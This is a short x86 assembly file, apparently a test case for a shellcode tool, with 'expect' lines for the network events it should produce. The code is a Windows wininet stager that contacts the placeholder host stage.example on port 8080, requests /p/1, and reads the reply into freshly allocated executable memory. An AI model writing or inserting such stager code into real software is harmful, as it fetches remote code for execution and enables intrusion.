; SPDX-License-Identifier: GPL-2.0-or-later
; A stage over HTTP, by name.
; expect: dns stage.example
; expect: connect - 8080
; expect: fetch http://stage.example:8080/p/1
%include "way32.inc"
	function "wininet.dll", "InternetOpenA"
	push 0
	push 0
	push 0
	push 0
	push 0
	call eax
	mov esi, eax
	function "wininet.dll", "InternetConnectA"
	push 0
	push 0
	push 3
	push 0
	push 0
	push 8080
	text "stage.example"
	push esi
	call eax
	mov esi, eax
	function "wininet.dll", "HttpOpenRequestA"
	push 0
	push 0x84400200 & ~0x800000
	push 0
	push 0
	push 0
	text "/p/1"
	push 0
	push esi
	call eax
	mov esi, eax
	function "wininet.dll", "HttpSendRequestA"
	push 0
	push 0
	push 0
	push 0
	push esi
	call eax
	function "kernel32.dll", "VirtualAlloc"
	push 0x40
	push 0x1000
	push 0x400000
	push 0
	call eax
	mov edi, eax
	function "wininet.dll", "InternetReadFile"
	lea ecx, [ebp + 8]
	push ecx
	push 0x2000
	push edi
	push esi
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
